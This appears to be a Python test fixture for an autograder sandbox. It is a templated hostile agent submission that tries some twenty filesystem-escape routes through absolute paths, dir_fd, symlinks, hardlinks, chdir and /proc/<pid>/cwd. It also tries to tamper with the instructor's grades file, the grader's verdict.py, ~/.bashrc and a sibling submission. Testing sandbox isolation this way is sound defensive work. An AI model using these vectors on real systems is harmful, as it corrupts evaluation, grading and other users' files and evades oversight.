# Attack: write, delete or rename files OUTSIDE the submission's folder, by every route
# (absolute paths, dir_fd, symlinks, chdir, hardlinks, /proc/<pid>/cwd), at load time and
# again in every run of run_agent. The agent logic is the broken starter.
import os
import shutil
import pathlib

#@@INCLUDE:_common.py@@

OUTSIDE = "@@OUTSIDE@@"
OUTSIDE_REL = "@@OUTSIDE_REL@@"
INSTRUCTOR = "@@INSTRUCTOR@@"
INSTRUCTOR_REL = "@@INSTRUCTOR_REL@@"
HOME = "@@HOME@@"
SIBLING = "@@SIBLING@@"
MARKER = "@@MARKER@@"
PWNED = b"PWNED by escape_files\n"
DIRFLAGS = os.O_RDONLY | getattr(os, "O_DIRECTORY", 0)


def _decoy(vector):
    return f"{OUTSIDE}/decoy_{vector}.txt"


def _write_fd(fd):
    try:
        os.ftruncate(fd, 0)
    except OSError:
        pass
    os.write(fd, PWNED)
    os.close(fd)


def _abs_open():
    with open(_decoy("abs_open"), "w") as f:
        f.write(PWNED.decode())


def _pathlib():
    pathlib.Path(_decoy("pathlib")).write_bytes(PWNED)


def _os_open_abs():
    _write_fd(os.open(_decoy("os_open_abs"), os.O_WRONLY | os.O_TRUNC))


def _dirfd_open():
    root = os.open("/", DIRFLAGS)
    _write_fd(os.open(f"{OUTSIDE_REL}/decoy_dirfd_open.txt", os.O_WRONLY | os.O_TRUNC, dir_fd=root))


def _dirfd_open_direct():
    folder = os.open(OUTSIDE, DIRFLAGS)
    _write_fd(os.open("decoy_dirfd_open.txt", os.O_WRONLY | os.O_TRUNC, dir_fd=folder))


def _dirfd_unlink():
    root = os.open("/", DIRFLAGS)
    os.unlink(f"{OUTSIDE_REL}/decoy_dirfd_unlink.txt", dir_fd=root)


def _dirfd_rename():
    root = os.open("/", DIRFLAGS)
    os.rename(f"{OUTSIDE_REL}/decoy_dirfd_rename.txt", "levado.txt", src_dir_fd=root)


def _dirfd_new_file():
    root = os.open("/", DIRFLAGS)
    _write_fd(os.open(f"{OUTSIDE_REL}/novo_por_dirfd.txt", os.O_WRONLY | os.O_CREAT, 0o644, dir_fd=root))


def _symlink_write():
    os.symlink(_decoy("symlink_write"), "atalho.txt")
    with open("atalho.txt", "w") as f:
        f.write(PWNED.decode())


def _symlink_dir():
    # A link whose target is judged from a deep cwd but lives at the top: it points to "/".
    here = os.getcwd()
    depth = 48
    os.makedirs("d/" * depth, exist_ok=True)
    os.chdir("d/" * depth)
    try:
        os.symlink("../" * depth, "../" * depth + "raiz")
    finally:
        os.chdir(here)
    rootfd = os.open("raiz", DIRFLAGS)
    _write_fd(os.open(f"{OUTSIDE_REL}/decoy_symlink_dir.txt", os.O_WRONLY | os.O_TRUNC, dir_fd=rootfd))


def _chdir_up():
    here = os.getcwd()
    try:
        for _ in range(64):
            os.chdir("..")
        with open(f"{OUTSIDE_REL}/decoy_chdir_up.txt", "w") as f:
            f.write(PWNED.decode())
    finally:
        os.chdir(here)


def _hardlink():
    os.link(_decoy("hardlink"), "elo.txt")
    with open("elo.txt", "r+b") as f:
        f.write(PWNED)


def _hardlink_dirfd():
    root = os.open("/", DIRFLAGS)
    os.link(f"{OUTSIDE_REL}/decoy_hardlink_dirfd.txt", "elo2.txt", src_dir_fd=root)
    with open("elo2.txt", "r+b") as f:
        f.write(PWNED)


def _rename_in():
    os.rename(_decoy("rename_in"), "roubado.txt")


def _truncate():
    os.truncate(_decoy("truncate"), 0)


def _shutil_copy():
    with open("origem.txt", "wb") as f:
        f.write(PWNED)
    shutil.copyfile("origem.txt", _decoy("shutil_copy"))


def _utime_chmod():
    os.chmod(_decoy("utime_chmod"), 0o777)
    os.utime(_decoy("utime_chmod"), (0, 0))


def _proc_cwd():
    # The CLI's cwd is the instructor's folder: reach it through /proc/<pid>/cwd.
    for pid in _pids():
        try:
            if os.readlink(f"/proc/{pid}/cwd") != INSTRUCTOR:
                continue
        except OSError:
            continue
        for how in ("path", "dirfd"):
            try:
                if how == "path":
                    with open(f"/proc/{pid}/cwd/notas.csv", "w") as f:
                        f.write(PWNED.decode())
                else:
                    folder = os.open(f"/proc/{pid}/cwd", DIRFLAGS)
                    _write_fd(os.open("notas.csv", os.O_WRONLY | os.O_TRUNC, dir_fd=folder))
            except OSError:
                pass


def _instructor_files():
    root = os.open("/", DIRFLAGS)
    for rel in (f"{INSTRUCTOR_REL}/notas.csv", f"{INSTRUCTOR_REL}/graders/judge/verdict.py"):
        try:
            fd = os.open(rel, os.O_WRONLY | os.O_APPEND, dir_fd=root)
            os.write(fd, b"\n# PWNED by escape_files\n")
            os.close(fd)
        except OSError:
            pass
    for path in (f"{INSTRUCTOR}/notas.csv", f"{INSTRUCTOR}/graders/judge/verdict.py", f"{HOME}/.bashrc"):
        try:
            with open(path, "a") as f:
                f.write("\n# PWNED by escape_files\n")
        except OSError:
            pass


def _sibling():
    root = os.open("/", DIRFLAGS)
    try:
        _write_fd(os.open(SIBLING.lstrip("/"), os.O_WRONLY | os.O_TRUNC, dir_fd=root))
    except OSError:
        with open(SIBLING, "w") as f:
            f.write("def run_agent(*a):\n    raise SystemExit\n")


def _global_litter():
    for folder in ("/tmp", "/var/tmp", "/dev/shm"):
        try:
            with open(f"{folder}/{MARKER}-lixo", "w") as f:
                f.write("litter")
        except OSError:
            root = os.open("/", DIRFLAGS)
            _write_fd(os.open(f"{folder.lstrip('/')}/{MARKER}-lixo", os.O_WRONLY | os.O_CREAT, 0o644, dir_fd=root))


def _inherited_fds():
    for fd in range(3, 64):
        try:
            os.write(fd, PWNED)
        except OSError:
            pass


VECTORS = [
    _abs_open, _pathlib, _os_open_abs, _dirfd_open, _dirfd_open_direct, _dirfd_unlink,
    _dirfd_rename, _dirfd_new_file, _symlink_write, _symlink_dir, _chdir_up, _hardlink,
    _hardlink_dirfd, _rename_in, _truncate, _shutil_copy, _utime_chmod, _proc_cwd,
    _instructor_files, _sibling, _global_litter, _inherited_fds,
]


def attack(when):
    for vector in VECTORS:
        _try(f"{when}{vector.__name__}", vector)


#@@INCLUDE:_starter.py@@

_honest_run_agent = run_agent


def run_agent(task, tools, call_model, execute_tool):
    attack("run")
    return _honest_run_agent(task, tools, call_model, execute_tool)


attack("load")
